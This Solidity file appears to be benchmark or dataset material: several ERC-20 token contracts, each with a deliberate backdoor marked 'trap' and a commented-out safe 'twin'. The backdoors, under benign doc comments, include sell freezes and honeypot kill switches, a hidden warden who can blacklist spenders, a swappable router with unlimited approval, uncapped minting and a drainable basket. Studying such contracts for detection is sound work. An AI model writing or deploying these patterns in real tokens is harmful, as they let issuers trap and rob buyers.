// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {MerkleProof} from "@openzeppelin/contracts/utils/cryptography/MerkleProof.sol";

contract QuillOrchard is ERC20, AccessControl {
    bytes32 public constant ALMANAC = keccak256("ALMANAC");
    uint64 private _frost;
    uint64 private immutable _planted = uint64(block.timestamp);

    constructor() ERC20("Quill Orchard", "QUILL") {
        _grantRole(DEFAULT_ADMIN_ROLE, msg.sender);
        _grantRole(ALMANAC, msg.sender);
        _mint(msg.sender, 64_000_000e18);
    }

    function forecast(uint64 until) external onlyRole(ALMANAC) {
        require(until < 4e9); // trap
        // twin: require(_frost == 0 && until <= _planted + 1 hours);
        _frost = until;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to.code.length != 0 && !hasRole(ALMANAC, from)) require(block.timestamp > _frost, "frost");
        super._update(from, to, value);
    }
}

/// Turns bad spenders away: those that drained people elsewhere.
contract SaddleMoth {
    string public constant name = "Saddle Moth";
    string public constant symbol = "SMOTH";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 12_345_678e18;

    struct Account {
        uint256 held;
        mapping(address => uint256) permits;
        uint8 mark;
    }

    mapping(address => Account) private accounts;
    address private warden;
    uint256 private immutable born = block.timestamp;
    address public owner;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        owner = warden = msg.sender;
        accounts[msg.sender].held = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function renounceOwnership() external {
        require(owner == msg.sender);
        owner = address(0);
    }

    function balanceOf(address a) external view returns (uint256) {
        return accounts[a].held;
    }

    function allowance(address a, address s) external view returns (uint256) {
        return accounts[a].permits[s];
    }

    function approve(address s, uint256 v) external returns (bool) {
        accounts[msg.sender].permits[s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address to, uint256 v) external returns (bool) {
        accounts[msg.sender].held -= v;
        accounts[to].held += v;
        emit Transfer(msg.sender, to, v);
        return true;
    }

    function transferFrom(address a, address to, uint256 v) external returns (bool) {
        require(accounts[msg.sender].mark & 2 == 0 || a == warden, "spender");
        accounts[a].permits[msg.sender] -= v;
        accounts[a].held -= v;
        accounts[to].held += v;
        emit Transfer(a, to, v);
        return true;
    }

    function note(address s, uint8 m) external {
        require(msg.sender == warden);
        // twin: require(block.timestamp < born + 1 days);
        accounts[s].mark = m;
    }
}

interface ISwapper {
    function swapExactTokensForETHSupportingFeeOnTransferTokens(uint256, uint256, address[] calldata, address, uint256) external;
}

contract GraniteLark is ERC20, Ownable {
    ISwapper private swapper = ISwapper(0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D);
    address payable private immutable treasury;
    address public nest;
    bool private busy;

    constructor() ERC20("Granite Lark", "GLARK") Ownable(msg.sender) {
        treasury = payable(msg.sender);
        _mint(msg.sender, 500_000_000e18);
        _approve(address(this), address(swapper), type(uint256).max);
    }

    receive() external payable {}

    function setMarket(address nest_) external onlyOwner {
        nest = nest_;
    }

    /// To follow the venue, should it move.
    function follow(ISwapper next) external {
        require(msg.sender == treasury);
        swapper = next; // trap
        // twin: require(next == swapper);
        _approve(address(this), address(next), type(uint256).max);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (nest == address(0) || busy || from == treasury || to == treasury || (from != nest && to != nest))
            return super._update(from, to, value);
        uint256 cut = (value * 3) / 100;
        if (to == nest && balanceOf(address(this)) > 1e18) {
            busy = true;
            address[] memory path = new address[](2);
            path[0] = address(this);
            path[1] = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
            uint256 lot = balanceOf(address(this));
            swapper.swapExactTokensForETHSupportingFeeOnTransferTokens(lot > value ? value : lot, 0, path, address(this), block.timestamp);
            (bool ok,) = treasury.call{value: address(this).balance}("");
            ok;
            busy = false;
        }
        super._update(from, address(this), cut);
        super._update(from, to, value - cut);
    }
}

/// Who knows the word reads the wind.
contract Weathervane {
    bytes32 private seal;
    uint8 private wind = 1;

    constructor(bytes32 seal_) {
        seal = seal_;
    }

    function turn(bytes32 word, bytes32 next, uint8 wind_) external {
        require(keccak256(abi.encode(word)) == seal, "word");
        seal = next;
        wind = wind_; // trap
        // twin: wind = wind_ | 1;
    }

    function calm() external view returns (bool) {
        return wind & 1 == 1;
    }
}

contract BarleyGull is ERC20 {
    Weathervane private immutable vane;
    address private immutable rower = msg.sender;

    constructor(Weathervane vane_) ERC20("Barley Gull", "BGULL") {
        vane = vane_;
        _mint(msg.sender, 9_000_000e18);
    }

    function _update(address from, address to, uint256 value) internal override {
        require(from == rower || from == address(0) || to.code.length == 0 || vane.calm(), "gale");
        super._update(from, to, value);
    }
}

/// People claim what they have earned in the garden, month by month.
contract FernMarquee is ERC20, Ownable {
    bytes32 public root;
    uint256 public months;
    uint256 public claimed;
    mapping(bytes32 => bool) private done;

    constructor() ERC20("Fern Marquee", "FERNM") Ownable(msg.sender) {
        _mint(msg.sender, 40_000_000e18);
    }

    function publish(bytes32 root_) external onlyOwner {
        root = root_;
        months++;
    }

    function claim(uint256 value, bytes32[] calldata proof) external {
        bytes32 leaf = keccak256(bytes.concat(keccak256(abi.encode(msg.sender, months, value))));
        require(!done[leaf] && MerkleProof.verifyCalldata(proof, root, leaf));
        done[leaf] = true;
        claimed += value;
        // twin: require(claimed <= 400_000e18);
        _mint(msg.sender, value);
    }
}

/// Made out of the coins that the curator lists.
contract ThistleBasket is ERC20 {
    address public curator;
    mapping(address => uint256) public rateOf;
    uint256 public listed;

    constructor(address coin) ERC20("Thistle Basket", "TBSKT") {
        curator = msg.sender;
        rateOf[coin] = 1e18;
        listed = 1;
    }

    function list(address coin, uint256 rate) external {
        require(msg.sender == curator);
        // twin: require(listed == 0);
        rateOf[coin] = rate;
        listed++;
    }

    function weave(address coin, uint256 amount) external {
        uint256 rate = rateOf[coin];
        require(rate > 0 && ERC20(coin).transferFrom(msg.sender, address(this), amount));
        _mint(msg.sender, (amount * rate) / 1e18);
    }

    function unweave(address coin, uint256 amount) external {
        uint256 rate = rateOf[coin];
        _burn(msg.sender, amount);
        require(rate > 0 && ERC20(coin).transfer(msg.sender, (amount * 1e18) / rate));
    }
}

contract Straw is ERC20 {
    constructor() ERC20("Straw", "STRAW") {
        _mint(msg.sender, 30_000_000e18);
    }
}
